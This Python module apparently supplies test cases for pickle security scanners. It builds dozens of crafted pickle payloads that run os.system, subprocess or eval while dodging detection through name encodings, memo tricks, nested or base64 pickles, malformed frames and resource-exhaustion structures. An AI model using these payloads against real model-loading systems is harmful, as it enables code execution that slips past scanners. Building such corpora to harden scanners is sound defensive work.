"""Tricks of the stream: calls that scanners read past, because they take names, memo, frames or ends otherwise than loaders."""

from __future__ import annotations

import base64
import struct

from streams import BARE, RUN, STOP, call, framed, name, stacked, text, within

OS = name("os", "system")
GIVEN = text("echo owned") + b"\x85R"


def tricks() -> list[tuple[str, bytes, str, str]]:
    """Name, bytes, tier, how it works."""
    return [*_names(), *_memo(), *_calls(), *_ends(), *_cheap()]


def _names() -> list[tuple[str, bytes, str, str]]:
    def old(value: bytes) -> bytes:
        return b"U" + bytes([len(value)]) + value

    def wide(value: str) -> bytes:
        return b"\x8d" + struct.pack("<Q", len(value)) + value.encode()

    escaped = b"V\\u006fs\n" + b"Vsyste\\u006d\n" + b"\x93"
    quoted = b"S'\\x6fs'\n" + b"S'\\163ystem'\n" + b"\x93"
    joined = name("operator", "concat") + text("o") + text("s") + b"\x86R" + text("system") + b"\x93"
    letters = text("") + b"]" + b"(" + text("o") + text("s") + b"e"
    return [
        ("stack-global", b"\x80\x04" + BARE + STOP, "core", "STACK_GLOBAL instead of GLOBAL"),
        ("stack-global-binstring", b"\x80\x04" + old(b"os") + old(b"system") + b"\x93" + GIVEN + STOP, "core", "names as byte strings"),
        ("stack-global-wide", b"\x80\x04" + wide("os") + wide("system") + b"\x93" + GIVEN + STOP, "core", "names with eight bytes of length"),
        ("stack-global-unicode", b"\x80\x04" + escaped + GIVEN + STOP, "core", "names as escaped text"),
        ("stack-global-string", b"\x80\x04" + quoted + GIVEN + STOP, "core", "names as escaped literals"),
        ("stack-global-memo", b"\x80\x04" + text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + GIVEN + STOP, "core", "names from the memo"),
        ("stack-global-dup", b"\x80\x04" + text("os") + text("x") + b"0" + text("system") + b"\x93" + GIVEN + STOP, "core", "a text popped between"),
        ("stack-global-computed", b"\x80\x04" + joined + GIVEN + STOP, "core", "a name that a call puts together"),
        ("stack-global-letters", b"\x80\x04" + name("builtins", "str.join") + letters + b"\x86R" + text("system") + b"\x93" + GIVEN + STOP, "core", "joined letters"),
        ("dotted", b"\x80\x04" + stacked("pathlib", "os.system") + GIVEN + STOP, "core", "GHSA ...5j3x: an attribute of a harmless module"),
        ("dotted-numpy", b"\x80\x04" + stacked("numpy", "os.system") + GIVEN + STOP, "core", "the same of a library"),
        ("dotted-listed", b"\x80\x04" + stacked("collections", "OrderedDict.__init__.__globals__") + STOP, "core", "the globals of a listed class"),
        ("dunder", b"\x80\x04" + stacked("collections", "__builtins__") + STOP, "core", "the builtins of a listed module"),
        ("renamed-2", b"\x80\x02" + name("__builtin__", "eval") + text("1") + b"\x85R" + STOP, "core", "a name of Python 2, renamed while loading"),
        ("renamed-commands", call("commands", "getoutput", "id", form=1), "core", "the same of a module"),
        ("space", b"\x80\x04" + stacked("os ", "system") + GIVEN + STOP, "edge", "a module with a space"),
        ("main", b"\x80\x04" + stacked("__main__", "load") + GIVEN + STOP, "edge", "a name of the loading program"),
    ]  # fmt: skip


def _memo() -> list[tuple[str, bytes, str, str]]:
    benign = name("collections", "OrderedDict")
    return [
        ("memo-put-memoize", b"\x80\x04" + OS + b"q\x05" + b"0" + benign + b"\x940" + b"h\x05" + GIVEN + STOP, "core", "picklescan 14: PUT and MEMOIZE mixed"),
        ("memo-overwritten", b"\x80\x04" + benign + b"q\x000" + OS + b"q\x000" + b"h\x00" + GIVEN + STOP, "core", "GHSA ...9gvj: an entry written twice"),
        ("memo-put-text", b"\x80\x02" + OS + b"p3\n0" + b"g3\n" + text("id") + b"\x85R" + STOP, "core", "entries by lines of text"),
        ("memo-long", b"\x80\x02" + OS + b"r\x07\0\0\x000" + b"j\x07\0\0\0" + GIVEN + STOP, "core", "entries by long numbers"),
        ("memo-missing", b"\x80\x04" + BARE + b"0h\x63" + STOP, "core", "runs, then asks for an entry that is not there"),
        ("memo-huge", b"\x80\x04" + BARE + b"r\xff\xff\xff\x7f" + STOP, "core", "runs, then wants sixteen gigabytes"),
        ("memo-gap", b"\x80\x04" + OS + b"p90\n0" + b"g90\n" + GIVEN + STOP, "core", "an index that no pickler reaches"),
        ("memo-get-first", b"\x80\x04]\x94h\x00" + BARE + b"\x86" + STOP, "core", "a list and a call behind it"),
    ]  # fmt: skip


def _calls() -> list[tuple[str, bytes, str, str]]:
    cls = name("subprocess", "Popen")
    return [
        ("inst", b"(S'id'\nios\nsystem\n" + STOP, "core", "INST"),
        ("obj", b"(" + OS + text("id") + b"o" + STOP, "core", "OBJ"),
        ("obj-popped", b"\x80\x04(" + name("smtplib", "SMTP") + text("h") + b"o0N" + STOP, "core", "GHSA ...mxhj: called and dropped"),
        ("newobj", b"\x80\x02" + cls + text("id") + b"\x85\x81" + STOP, "core", "NEWOBJ"),
        ("newobj-ex", b"\x80\x04" + cls + text("id") + b"\x85}\x92" + STOP, "core", "NEWOBJ_EX"),
        ("newobj-map", b"\x80\x02" + name("builtins", "bytes") + name("builtins", "map") + OS + b"](" + text("id") + b"e\x86\x81\x85\x81" + STOP, "core", "map made and walked through"),
        ("popped", b"\x80\x04" + BARE + b"0N" + STOP, "core", "the result is dropped"),
        ("popped-mark", b"\x80\x04(" + BARE + b"1N" + STOP, "core", "the result is dropped with a mark"),
        ("deep-inside", within(b"\x80\x04" + BARE + STOP), "core", "between the values of a dictionary"),
        ("build-slots", b"\x80\x02" + name("collections", "OrderedDict") + b")R" + b"N}" + text("__class__") + OS + b"s\x86b" + STOP, "edge", "a state that sets the class"),
        ("build-class", b"\x80\x02" + name("collections", "OrderedDict") + b"}" + text("__reduce__") + OS + b"sb" + STOP, "core", "a state on a class"),
        ("build-builtins", b"\x80\x04" + stacked("numpy", "__builtins__") + b"}" + text("print") + OS + b"sb" + STOP, "core", "modelscan 330: rewrites builtins"),
        ("build-function", b"\x80\x02" + name("torch._utils", "_rebuild_tensor_v2") + b"}" + text("__code__") + b"Nsb" + STOP, "core", "a state on a function"),
        ("call-result", b"\x80\x02" + name("builtins", "getattr") + name("builtins", "dict") + text("get") + b"\x86R)R" + STOP, "core", "calls what a call gave"),
        ("defaultdict", b"\x80\x02" + name("collections", "defaultdict") + OS + b"\x85R" + text("id") + b"Ns" + STOP, "core", "a factory that runs on a missing key"),
        ("setitem-object", b"\x80\x02" + name("torch", "FloatStorage") + b"K\x00Ns" + STOP, "core", "CVE-2026-24747: an item set on what is no dictionary"),
        ("codec", b"\x80\x02" + name("_codecs", "encode") + text("x") + text("rot13") + b"\x86R" + STOP, "edge", "a codec, whose module is imported by name"),
        ("copyreg", b"\x80\x02" + name("copyreg", "_reconstructor") + cls + name("builtins", "object") + b"N\x87R" + STOP, "core", "an object without its constructor"),
        ("extension", b"\x80\x02" + name("copyreg", "add_extension") + text("os") + text("system") + b"K\x01\x87R0\x82\x01" + GIVEN + STOP, "core", "a registered number"),
        ("extension-bare", b"\x80\x02\x82\x01" + GIVEN + STOP, "core", "a number that somebody registered"),
        ("persistent", b"\x80\x02" + BARE + b"Q" + STOP, "core", "an id that is a call"),
        ("buffer", b"\x80\x05\x97" + BARE + b"\x86" + STOP, "core", "a buffer from elsewhere, and a call"),
        ("listed-as-argument", b"\x80\x02" + name("builtins", "list") + name("builtins", "map") + OS + b"](" + text("id") + b"e\x86R\x85R" + STOP, "core", "walks through map"),
        ("retyped", b"\x80\x02" + name("torch._tensor", "_rebuild_from_type_v2") + OS + name("torch", "Tensor") + b"(" + text("id") + b"t}(tR" + STOP, "core", "a listed function that calls its first argument"),
        ("build-template", b"\x80\x02" + name("scipy.stats._continuous_distns", "norm_gen") + b")\x81}" + text("_parse_arg_template") + text("import os; os.system('echo owned')") + b"sb" + STOP, "core", "a state whose text SciPy executes"),
        ("build-listener", b"\x80\x02" + name("sklearn.callback._scoring_monitor", "ScoringMonitor") + b")\x81}" + text("_listener_handle") + b"Nsb" + STOP, "edge", "a state that opens a listener"),
        ("ufunc", b"\x80\x02" + name("numpy.core", "_ufunc_reconstruct") + text("os") + text("system") + b"\x86R" + STOP, "core", "a function that looks names up"),
    ]  # fmt: skip


def _ends() -> list[tuple[str, bytes, str, str]]:
    return [
        ("truncated", RUN[:-1], "core", "nullifAI: no STOP"),
        ("truncated-argument", b"\x80\x04" + BARE + b"X\xff\xff", "core", "a length cut short"),
        ("invalid-opcode", b"\x80\x04" + BARE + b"\xff" + STOP, "core", "runs before the byte that no scanner knows"),
        ("protocol-9", b"\x80\x04" + BARE + b"\x80\x09" + STOP, "core", "runs before a protocol of the future"),
        ("stacked-second", b"\x80\x04N." + RUN, "core", "a second pickle behind a harmless one"),
        ("stacked-third", b"\x80\x04]." + b"\x80\x04}." + RUN, "core", "a third one"),
        ("stacked-junk", b"\x80\x04N." + b"\0" * 64 + RUN, "core", "zeros between"),
        ("trailing-junk", RUN + b"\0" * 100, "core", "zeros behind"),
        ("frame-short", b"\x80\x04\x95\x04\0\0\0\0\0\0\0" + BARE + STOP, "core", "fickling 317: a frame that ends within"),
        ("frame-long", b"\x80\x04\x95\xff\0\0\0\0\0\0\0" + BARE + STOP, "core", "a frame that reaches beyond the file"),
        ("frame-zero", b"\x80\x04\x95" + bytes(8) + BARE + STOP, "core", "an empty frame"),
        ("frame-late", b"\x80\x04" + framed(BARE)[2:] + STOP, "core", "STOP behind the frame"),
        ("protocol-twice", b"\x80\x02\x80\x04" + BARE + STOP, "core", "two protocols"),
        ("protocol-late", b"N0\x80\x04" + BARE + STOP, "core", "a protocol in the midst"),
        ("protocol-none", BARE.replace(b"\x8c", b"\x8c") + STOP, "core", "no protocol, opcodes of 4"),
        ("protocol-1", b"\x80\x01" + OS + b"(U\x02idtR" + STOP, "core", "protocol 1"),
        ("stack-left", b"\x80\x04N" + BARE + STOP, "core", "values left over"),
        ("nested", b"\x80\x04" + stacked("pickle", "loads") + b"B" + struct.pack("<I", len(RUN)) + RUN + b"\x85R" + STOP, "core", "a pickle in a pickle"),
        ("nested-base64", b"\x80\x04" + stacked("pickle", "loads") + stacked("base64", "b64decode") + text(base64.b64encode(RUN).decode()) + b"\x85R\x85R" + STOP, "core", "the same, encoded"),
        ("nested-torch", b"\x80\x04" + stacked("torch.storage", "_load_from_bytes") + b"B" + struct.pack("<I", len(RUN)) + RUN + b"\x85R" + STOP, "core", "the same through torch"),
        ("nested-dill", b"\x80\x04" + stacked("dill", "loads") + b"C\x04abcd\x85R" + STOP, "core", "the same through dill"),
    ]  # fmt: skip


def _cheap() -> list[tuple[str, bytes, str, str]]:
    doubled = b"\x80\x02]q\x00" + b"".join(b"0](" + b"h%c" % i * 10 + b"eq%c" % (i + 1) for i in range(80))
    tuples = b"\x80\x02)q\x00" + b"".join(b"0h%ch%c\x86q%c" % (i, i, i + 1) for i in range(100))
    return [
        ("laughs-then-run", doubled + b"0" + BARE + STOP, "core", "lists of lists of one list, ten to the eightieth"),
        ("laughs-tuples-then-run", tuples + b"0" + BARE + STOP, "core", "the same as tuples, hashed"),
        ("deep-then-run", b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"0" + BARE + STOP, "core", "a list as deep as a stack"),
        ("marks-then-run", b"\x80\x02" + b"(" * 100_000 + BARE + b"t" * 100_000 + STOP, "core", "a hundred thousand marks"),
        ("long-then-run", b"\x80\x02\x8b\xff\xff\x0f\x00" + bytes(0xFFFFF) + b"0" + BARE + STOP, "core", "a number of a megabyte"),
        ("long-negative", b"\x80\x04" + BARE + b"\x8b\xff\xff\xff\xff" + STOP, "core", "a number of minus one byte"),
        ("padding-then-run", b"\x80\x02" + b"K\x010" * 300_000 + BARE + STOP, "core", "six hundred thousand idle opcodes"),
        ("bytes-then-run", b"\x80\x04B" + struct.pack("<I", 3 << 20) + bytes(3 << 20) + b"0" + BARE + STOP, "core", "three megabytes of zeros"),
    ]  # fmt: skip
